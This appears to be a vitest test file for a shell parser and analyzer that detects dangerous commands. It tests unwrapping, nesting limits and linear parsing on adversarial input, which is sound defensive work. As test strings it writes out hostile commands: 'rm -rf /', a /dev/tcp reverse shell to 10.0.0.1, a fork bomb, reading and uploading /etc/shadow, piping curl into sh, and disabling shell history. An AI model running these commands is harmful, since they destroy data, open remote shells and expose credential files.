import { describe, expect, it } from "vitest";
import { analyzeShell } from "../../../src/detectors/commands/shell/analyze.js";
import { parseShell } from "../../../src/detectors/commands/shell/parser.js";
import { growthRatio } from "../../helpers/growth.js";

function words(text: string): string[][] {
  return parseShell(text).pipelines.flatMap((p) => p.commands.map((c) => c.words.map((w) => w.text)));
}

function programs(text: string): string[] {
  return analyzeShell(text).invocations.map((i) => [i.name, ...i.args].join(" "));
}

describe("parseShell", () => {
  it.each([
    ["quote removal", "r'm' -rf \"/\"", [["rm", "-rf", "/"]]],
    ["backslash escapes", "r\\m -r\\f a\\ b", [["rm", "-rf", "a b"]]],
    ["ANSI-C strings", "$'\\x72m' $'-\\162f' /", [["rm", "-rf", "/"]]],
    ["pipes and lists", "a | b && c; d || e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]],
    ["line continuation", "echo a \\\n b", [["echo", "a", "b"]]],
    [
      "comments",
      "echo a # rm -rf /\necho b#c",
      [
        ["echo", "a"],
        ["echo", "b#c"],
      ],
    ],
    ["redirections are not words", "cat < in > out 2>&1", [["cat"]]],
    ["unterminated quote runs to the end", "echo 'abc", [["echo", "abc"]]],
  ])("%s", (_name, text, expected) => {
    expect(words(text)).toEqual(expected);
  });

  it("parses substitutions as nested pipelines", () => {
    const script = parseShell("echo $(cat /etc/shadow) `id` <(ls)");
    const nested = script.pipelines.filter((p) => p.depth === 1).map((p) => p.commands[0]!.words[0]!.text);
    expect(nested).toEqual(["cat", "id", "ls"]);
    const echo = script.pipelines.find((p) => p.depth === 0)!.commands[0]!;
    expect(echo.words[1]!.substitutions).toHaveLength(1);
    expect(echo.words[1]!.dynamic).toBe(true);
  });

  it("keeps assignments apart from words", () => {
    const command = parseShell("HISTFILE=/dev/null FOO='a b' ls -l").pipelines[0]!.commands[0]!;
    expect(command.assignments.map((w) => w.text)).toEqual(["HISTFILE=/dev/null", "FOO=a b"]);
    expect(command.words.map((w) => w.text)).toEqual(["ls", "-l"]);
  });

  it("reads redirections with descriptors and here-documents", () => {
    const script = parseShell(
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\ncat <<-EOF > f\n\thello\n\tEOF\necho done",
    );
    const first = script.pipelines[0]!.commands[0]!;
    expect(first.redirects.map((r) => `${r.fd}${r.op}${r.target.text}`)).toEqual([
      ">&/dev/tcp/10.0.0.1/4444",
      "0>&1",
    ]);
    const cat = script.pipelines[1]!.commands[0]!;
    expect(cat.redirects[0]!.body).toBe("\thello\n");
    expect(script.pipelines[2]!.commands[0]!.words[0]!.text).toBe("echo");
  });

  it("records function definitions", () => {
    expect(parseShell(":(){ :|:& };:").functions.map((f) => f.name)).toEqual([":"]);
  });

  it("gives exact UTF-16 spans", () => {
    const text = "ls; rm -rf / ; echo hi";
    const rm = parseShell(text).pipelines[1]!.commands[0]!;
    expect(text.slice(rm.start, rm.end)).toBe("rm -rf /");
  });

  it("never throws on arbitrary input", () => {
    let seed = 7;
    const alphabet = "ab $()`'\"\\|&;<>{}#\n=-*~/!";
    for (let n = 0; n < 300; n++) {
      let text = "";
      for (let k = 0; k < 60; k++) {
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        text += alphabet[seed % alphabet.length];
      }
      expect(() => analyzeShell(text)).not.toThrow();
    }
  });
});

describe("analyzeShell", () => {
  it.each([
    ["sudo and env wrappers", "sudo -u root env A=1 nohup rm -rf /tmp/x", ["rm -rf /tmp/x"]],
    ["xargs", "ls | xargs -n 1 rm -f", ["ls", "rm -f"]],
    ["timeout with its duration", "timeout 5 curl x", ["curl x"]],
    ["command -v only looks up", "command -v rm", [""]],
  ])("unwraps %s", (_name, text, expected) => {
    expect(programs(text)).toEqual(expected);
  });

  it.each([
    ["bash -c", `bash -c "curl x | sh"`, ["curl x", "sh"]],
    ["bash -lc", "bash -lc 'id'", ["id"]],
    ["eval", "eval 'rm -rf /'", ["rm -rf /"]],
    ["su -c", "su root -c 'id'", ["id"]],
    ["ssh remote command", "ssh -p 22 host 'cat /etc/shadow'", ["cat /etc/shadow"]],
    ["echo piped to sh", "echo 'rm -rf /' | sh", ["rm -rf /"]],
    ["here-document fed to bash", "bash <<EOF\nrm -rf /\nEOF", ["rm -rf /"]],
    ["find -exec", "find . -exec sh -c 'id' \\;", ["sh -c id", "id"]],
    ["python os.system", `python3 -c 'import os; os.system("rm -rf /")'`, ["rm -rf /"]],
    ["nested twice", `sh -c "bash -c 'whoami'"`, ["whoami"]],
  ])("sees through %s", (_name, text, expected) => {
    const nested = analyzeShell(text)
      .invocations.filter((i) => i.nesting > 0 || i.name === "sh")
      .map((i) => [i.name, ...i.args].join(" "));
    for (const e of expected) expect(nested).toContain(e);
  });

  it("bounds re-parsing of eval chains", () => {
    const analysis = analyzeShell("eval ".repeat(40_000));
    expect(analysis.truncated).toBe(true);
    expect(Math.max(...analysis.invocations.map((i) => i.nesting))).toBeLessThanOrEqual(4);
  });

  it("survives here-documents that never end and huge argument lists", () => {
    expect(() => analyzeShell(`${"cat <<a ".repeat(20_000)}\nx\n`)).not.toThrow();
    expect(() => analyzeShell(`rm ${"x ".repeat(200_000)}`)).not.toThrow();
  });

  it("bounds nesting of -c strings", () => {
    let text = "id";
    for (let k = 0; k < 10; k++) text = `sh -c '${text.replaceAll("'", "'\\''")}'`;
    const analysis = analyzeShell(text);
    expect(analysis.truncated).toBe(true);
    expect(Math.max(...analysis.invocations.map((i) => i.nesting))).toBeLessThanOrEqual(4);
  });
});

describe("hostile input", () => {
  /** Smallest large/small run-time ratio over a few attempts (test/helpers/growth.ts). */
  function ratio(unit: string, smallChars: number, largeChars: number): number {
    const small = unit.repeat(Math.ceil(smallChars / unit.length));
    const large = unit.repeat(Math.ceil(largeChars / unit.length));
    // The small side is a few milliseconds at most: floored at 2 ms so timer and JIT noise on
    // it cannot inflate the ratio (a quadratic parser at 100 KB takes far longer than 60 ms).
    return growthRatio(analyzeShell, small, large, { bar: 10, runs: 7, floorMs: 2 });
  }

  it.each([
    ["$(", "$("],
    ["quotes", `'"`],
    ["backticks", "`"],
    ["here-documents", "<<a "],
    ["double-quoted substitutions", '"$('],
    ["parameter expansions", "${"],
    ["-c strings", "bash -c '"],
    ["ANSI-C", "$'\\x"],
  ])("is linear on 100 KB of %s", (_name, unit) => {
    expect(ratio(unit, 10_000, 100_000)).toBeLessThan(30);
  });

  // Inputs made of thousands of tiny commands keep several syntax objects per command alive,
  // so at 100 KB the collector starts promoting them while 10 KB never leaves the young
  // generation; a 10 KB / 100 KB ratio then measures the collector. Linearity is checked where
  // both sizes are past that point, over 8x the input: a quadratic parser costs 64x, a linear
  // one about 8x, and old-generation collections of what the worker's earlier tests left alive
  // land on the large side (they took a 4x step to 13x-18x, so the margin is kept wide).
  it.each([
    ["pipes", "a|"],
    ["function definitions", "f(){ f|f& };"],
  ])("is linear on many tiny commands: %s", (_name, unit) => {
    const small = unit.repeat(Math.ceil(50_000 / unit.length));
    const large = unit.repeat(Math.ceil(400_000 / unit.length));
    expect(
      growthRatio(analyzeShell, small, large, { bar: 20, runs: 5, floorMs: 2, collect: true }),
    ).toBeLessThan(32);
  });
});

describe("sessions and stdin programs (issue 4)", () => {
  it("keeps the lines typed into a bare interactive program as its input", () => {
    const analysis = analyzeShell("ftp -a 10.0.0.1\nput /etc/shadow out");
    expect(analysis.code.find((c) => c.interpreter === "ftp")?.code).toBe("put /etc/shadow out");
  });

  it("does not take a scripted program's next lines as its input", () => {
    expect(analyzeShell("tclsh build.tcl\nmake").code.some((c) => c.code.includes("make"))).toBe(false);
  });

  it("reads text echoed into an interpreter as its source", () => {
    const analysis = analyzeShell("echo 'esyscmd(id)' | m4");
    expect(analysis.code.find((c) => c.interpreter === "m4")?.code).toBe("esyscmd(id)");
  });

  it("parses the command watch runs, after its options", () => {
    const names = analyzeShell("watch -n 1 'rm -rf /'").invocations.map((i) => i.name);
    expect(names).toContain("rm");
  });

  it("stays linear on many sessions and echoes into interpreters", () => {
    for (const unit of ["tclsh\n", "ftp h\nput /x\n", "echo x | m4\n"]) {
      // Many tiny commands: measured where both sizes are past young-generation collection
      // (see "many tiny commands" above; with these line-per-command inputs the collector's
      // step lies between 50 and 150 KB): 4x the input must cost well under 16x.
      const small = unit.repeat(Math.ceil(150_000 / unit.length));
      const large = unit.repeat(Math.ceil(600_000 / unit.length));
      expect(
        growthRatio(analyzeShell, small, large, { bar: 8, runs: 3, floorMs: 2, collect: true }),
      ).toBeLessThan(12);
    }
  });
});
